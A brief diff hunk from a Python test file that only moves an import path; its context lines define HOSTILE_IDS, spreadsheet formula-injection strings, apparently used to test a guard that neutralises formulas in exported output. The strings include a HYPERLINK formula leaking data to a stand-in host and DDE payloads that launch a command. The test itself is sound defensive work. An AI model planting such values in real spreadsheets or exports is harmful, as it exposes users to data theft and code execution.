@@ -20,7 +20,7 @@ import duckdb
 import pyarrow as pa
 import pytest
 
-from patron.outputs import FORMULA_GUARD, atomic_output, guard_formulas
+from patron.data.outputs import FORMULA_GUARD, atomic_output, guard_formulas
 from tests.test_cli import one_line_error, run
 
 HOSTILE_IDS = ('=HYPERLINK("http://evil.example/?leak","click")', "+cmd|'/C calc'!A0", "@SUM(A1)", "-1+cmd|'/C calc'!A0")
